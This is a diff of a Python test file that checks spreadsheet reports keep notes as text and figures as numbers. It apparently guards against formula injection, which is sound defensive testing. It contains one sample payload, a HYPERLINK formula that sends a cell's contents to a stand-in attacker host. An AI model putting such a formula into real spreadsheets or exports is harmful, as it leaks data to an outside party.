@@ -6,7 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
-from datetime import UTC, date, datetime
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -14,15 +14,12 @@ from click.testing import CliRunner
 from openpyxl import load_workbook
 
 from bot.cli import main
-from bot.periods.repo import OPEN, Period
-from bot.periods.windows import make_windows
 from bot.reports.figures import ReportData
 from bot.reports.render import to_csv
 from bot.reports.xlsx import to_xlsx
-from bot.returns.metrics import DEFAULT_METRICS
 from bot.spreadsheet_safety import csv_cell, from_csv_cell
 from tests.harness import SHIPPED_CONFIG
-from tests.returns_support import running
+from tests.returns_support import january_report, running
 from tests.test_report import FIRST_JPA
 
 EVIL = '=HYPERLINK("http://evil.example/?"&B8)'
@@ -80,20 +77,10 @@ async def test_a_returns_note_is_never_a_formula_in_the_report(tmp_path: Path) -
     assert EVIL in values and 3 in values  # the note as text, the figure as a number
 
 
-def report_with(texts: dict[tuple[str, str], tuple[str, ...]], sums: dict) -> ReportData:  # type: ignore[type-arg]
-    windows = tuple(make_windows(date(2027, 1, 1), date(2027, 1, 31), "final", 7))
-    period = Period(
-        "JPA-X",
-        "Joint Period of Action",
-        date(2027, 1, 1),
-        date(2027, 1, 31),
-        OPEN,
-        ("TH",),
-        windows,
-        DEFAULT_METRICS,
-    )
-    statuses = {(w.seq, "TH"): "submitted" for w in windows}
-    return ReportData(period, {"TH": "@Thailand"}, sums, texts, statuses)
+def report_with(
+    texts: dict[tuple[str, str], tuple[str, ...]], sums: dict[tuple[str, str, str], int]
+) -> ReportData:
+    return january_report({"TH": "@Thailand"}, sums, texts, submitted=True)
 
 
 def test_every_trigger_in_every_report_format_is_text_and_numbers_stay_numbers() -> None:
